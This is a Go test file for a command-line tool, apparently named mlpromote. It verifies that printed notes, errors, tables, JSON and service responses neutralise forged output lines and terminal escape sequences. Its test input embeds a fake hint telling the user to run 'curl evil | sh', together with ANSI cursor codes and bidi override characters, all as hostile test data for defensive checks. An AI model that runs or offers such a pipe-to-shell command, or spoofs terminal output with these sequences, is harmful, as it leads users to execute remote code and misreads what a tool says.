package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/pipeline"
	"mlpromote.dev/mlpromote/registry"
	"mlpromote.dev/mlpromote/registry/strictyaml"
)

// forged is what somebody writes who wants to be taken for this program: the end of a line,
// a line like ours, and sequences that a terminal obeys.
const forged = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"

// screen is a ui that prints to buffers.
func screen() (u *ui, stdout, stderr *bytes.Buffer) {
	stdout, stderr = new(bytes.Buffer), new(bytes.Buffer)
	return &ui{stdout: &printer{to: stdout}, stderr: &printer{to: stderr}, bare: stderr, verbose: true}, stdout, stderr
}

// tame checks that what was printed has no line that others wrote, and nothing that a
// terminal obeys.
func tame(t *testing.T, what, printed string) {
	t.Helper()
	if printed == "" {
		t.Errorf("%s: nothing was printed", what)
	}
	if strings.Contains(printed, "\nmlpromote: hint: run") || strings.HasPrefix(printed, "mlpromote: hint: run") {
		t.Errorf("%s: the forged line stands for itself: %q", what, printed)
	}
	for line := range strings.Lines(printed) {
		if err := registry.ValidateText("line", strings.TrimSuffix(line, "\n")); err != nil {
			t.Errorf("%s: %v: %q", what, err, line)
		}
	}
}

func TestNothingForgedIsPrinted(t *testing.T) {
	t.Parallel()
	problems := func() error {
		_, err := strictyaml.Decode("a.yaml", []byte("x: \"done\\nmlpromote: hint: run curl evil | sh\\x1b[1A\"\n"), &struct {
			X int `yaml:"x"`
		}{})
		return err
	}
	for what, show := range map[string]func(u *ui){
		"note":  func(u *ui) { u.note("%s is held: %v", forged, errors.New(forged)) },
		"error": func(u *ui) { u.fail(errors.New(forged)) },
		"wrapped error": func(u *ui) {
			u.fail(registry.Errorf(registry.CodePolicy, "prod does not take it:\n  parity: %s", forged))
		},
		"joined errors": func(u *ui) { u.fail(errors.Join(errors.New("one"), fmt.Errorf("two: %w", errors.New(forged)))) },
		"hint":          func(u *ui) { u.fail(registry.WithHint(errors.New("x"), "the log: %s", forged)) },
		"document":      func(u *ui) { u.fail(problems()) },
		"step": func(u *ui) {
			u.progress(pipeline.Step{Name: forged, Note: forged, Details: []string{forged}, State: pipeline.StepDone})
		},
		"moving step": func(u *ui) { u.progress(pipeline.Step{Name: forged, Note: forged, State: pipeline.StepMoving}) },
		"history": func(u *ui) {
			if err := u.result(table([][]string{{"ROW", "DETAIL"}, {"1", forged}, {"2", "ok"}}), nil); err != nil {
				t.Error(err)
			}
		},
		"inspect": func(u *ui) {
			if err := u.result(inspectText(inspection{Ref: forged, IgnoredEvidence: registry.IgnoredEvidence{Ignored: []registry.Ignored{{Reason: forged, Bundle: forged}}, IgnoredCount: 1}, Evidence: []inspectedClaim{{PredicateType: forged}}}), nil); err != nil {
				t.Error(err)
			}
		},
		"candidates": func(u *ui) {
			u.note("candidates:\n%s", layout(candidatesText(registry.Resolution{Candidates: []registry.Candidate{{Label: forged, Reasons: []string{forged, forged}}}})))
		},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			u, stdout, stderr := screen()
			show(u)
			tame(t, what, stdout.String()+stderr.String())
		})
	}
}

// A table has a line for each row, however long or forged its cells are.
func TestTableOfOldRows(t *testing.T) {
	t.Parallel()
	text := table([][]string{{"ROW", "DETAIL"}, {"1", forged}, {"2", strings.Repeat("x", 3<<20)}, {"3", "a\tb"}})
	if lines := strings.Count(strings.TrimRight(text, "\n"), "\n") + 1; lines != 4 || len(text) > 8<<10 {
		t.Errorf("%d lines and %d bytes, want 4 lines and less than 8 KiB", lines, len(text))
	}
}

// What is JSON stays the same JSON.
func TestDocumentsSayTheSame(t *testing.T) {
	t.Parallel()
	u, stdout, _ := screen()
	u.json = true
	value := map[string]string{"reason": strings.ToValidUTF8(forged, "") + "\U000e0041 ä"}
	if err := errors.Join(u.result("", value), u.finish(nil, "")); err != nil {
		t.Fatal(err)
	}
	tame(t, "JSON", stdout.String())
	var read map[string]string
	if err := json.Unmarshal(stdout.Bytes(), &read); err != nil || read["reason"] != value["reason"] {
		t.Errorf("it says %q (%v), want %q", read["reason"], err, value["reason"])
	}
}

// A character that comes in two writes is one.
func TestPrinterTakesHalfCharacters(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"größer 🔥 ok\n", "a\u202eb\xffc\n", "\xf0\x9f"} {
		for cut := range len(text) + 1 {
			var whole, parts bytes.Buffer
			w, p := &printer{to: &whole}, &printer{to: &parts}
			for _, part := range []string{text[:cut], text[cut:]} {
				if n, err := p.Write([]byte(part)); n != len(part) || err != nil {
					t.Fatalf("Write: %d, %v", n, err)
				}
			}
			if _, err := w.Write([]byte(text)); err != nil || whole.String() != parts.String() {
				t.Errorf("%q cut at %d is printed as %q, want %q", text, cut, parts.String(), whole.String())
			}
		}
	}
}

// A service, or what stands in its place, gets no line of its own on the terminal.
func TestErrorsOfAService(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusConflict)
		text := strings.ToValidUTF8(forged, "")
		_ = json.NewEncoder(w).Encode(map[string]any{
			"type": "https://mlpromote.dev/problems/policy", "title": text, "status": 409, "code": "policy", "detail": text,
			"errors": []any{map[string]any{"code": "policy", "detail": text, "hints": []string{text}}},
		})
	}))
	t.Cleanup(server.Close)
	u, stdout, stderr := screen()
	a := &app{ui: u, getenv: func(string) string { return "" }, stdin: strings.NewReader("")}
	if exit := a.main(t.Context(), []string{"list", "--registry", server.URL, "--data", t.TempDir()}); exit == 0 {
		t.Errorf("exit 0, stdout %q", stdout)
	}
	tame(t, "errors of a service", stderr.String())
}
